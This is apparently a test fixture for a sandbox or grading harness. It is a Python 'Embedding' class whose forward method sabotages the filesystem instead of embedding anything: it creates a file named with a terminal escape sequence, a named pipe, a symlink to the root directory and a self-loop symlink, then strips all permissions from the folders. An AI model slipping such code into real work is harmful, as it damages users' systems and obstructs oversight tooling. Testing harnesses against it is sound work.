# /// attack
# tries = "Leaves folders and files that may not be entered, read or removed."
# status = "failed"
# says = "got None"
# ///
import contextlib
import os


class Embedding:
    def __init__(self, num_embeddings, embedding_dim): ...

    def forward(self, ids):
        os.makedirs("outer/inner", exist_ok=True)
        with open("outer/inner/\udcff\n\x1b[2J", "w") as file:
            file.write("x")
        with contextlib.suppress(OSError):
            os.mkfifo("pipe")
        os.symlink("/", "root")
        os.symlink("loop", "loop")
        for path in ("outer/inner", "outer", "."):
            os.chmod(path, 0)
